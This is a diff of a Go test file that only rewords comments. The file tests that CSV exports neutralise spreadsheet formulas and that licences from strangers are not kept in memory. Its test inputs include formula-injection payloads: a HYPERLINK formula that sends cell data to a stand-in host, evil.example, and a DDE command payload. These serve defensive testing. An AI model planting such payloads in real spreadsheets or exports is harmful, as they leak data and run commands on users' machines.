@@ -15,11 +15,11 @@ import (
 	"kindex/edge/storage/storagetest"
 )
 
-// formulas are names that a spreadsheet interprets as formulas.
+// formulas are names that a spreadsheet would interpret as formulas.
 var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"PyTorch")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"}
 
-// TestFormulasInCSV: in CSV for spreadsheets no text is a formula, and programs get every
-// text unchanged.
+// TestFormulasInCSV: no cell in CSV for spreadsheets is a formula, and all strings are unchanged
+// in CSV for programs.
 func TestFormulasInCSV(t *testing.T) {
 	suite.WithoutRace(t)
 	content, dir := t.TempDir(), t.TempDir()
@@ -76,7 +76,7 @@ func texts(t *testing.T, a answer) []string {
 	return slices.Concat(rows...)
 }
 
-// TestMemoryOfLicences: licenses sent by strangers are not retained.
+// TestMemoryOfLicences: licences sent by strangers are not kept in memory.
 func TestMemoryOfLicences(t *testing.T) {
 	suite.InTest(t)
 	suite.WithoutRace(t)
@@ -95,7 +95,7 @@ func TestMemoryOfLicences(t *testing.T) {
 			}
 		}
 		runtime.GC()
-		runtime.GC() // pools survive one collection
+		runtime.GC() // the contents of a pool survive one collection
 		runtime.ReadMemStats(&after)
 		return int64(after.HeapAlloc) - int64(before.HeapAlloc)
 	}
